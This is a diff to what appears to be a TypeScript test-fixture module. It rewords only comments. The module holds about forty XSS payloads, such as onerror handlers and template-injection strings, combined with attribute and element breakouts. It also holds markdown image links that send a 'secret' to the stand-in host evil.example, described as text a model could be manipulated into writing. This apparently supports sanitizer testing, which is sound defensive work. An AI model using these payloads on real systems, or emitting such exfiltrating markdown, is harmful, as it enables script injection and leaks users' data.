@@ -1,6 +1,6 @@
 /**
- * What an attacker writes where text is asked for: forty ways to make markup run or fetch, each
- * also behind what would end an attribute or an element that it was put into.
+ * What an attacker writes into text fields: forty ways to make markup run or fetch, each also after
+ * something that would end an attribute or element around it.
  */
 const FETCHED = "//evil.example/p";
 
@@ -44,14 +44,14 @@ const WAYS = [
   "<template><img src=x onerror=alert(1)></template>",
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   "{{constructor.constructor('alert(1)')()}}",
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker writes.
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker writes it like this.
   "${alert(1)}",
 ];
 const BREAKOUTS = ["", '">', "'>", "</title></textarea></script>", "--></style>"];
 
 export const PAYLOADS = BREAKOUTS.flatMap((breakout) => WAYS.map((way) => breakout + way));
 
-/** Markdown that would fetch, run or mislead, as a model may be brought to write it. */
+/** Markdown that would fetch, run or mislead, as a model could be manipulated to write it. */
 export const MARKDOWN = [
   `![secret](https:${FETCHED}.png?text=secret)`,
   `![secret][1]\n\n[1]: https:${FETCHED}.png`,
@@ -70,7 +70,7 @@ export const MARKDOWN = [
   `| a |\n|---|\n| ![x](https:${FETCHED}.png) |`,
 ];
 
-/** The payloads behind one another, in texts of at most `characters`. */
+/** Joins the payloads into texts of at most `characters`. */
 export function packed(payloads: string[], characters: number): string[] {
   const texts: string[] = [];
   for (const payload of payloads) {
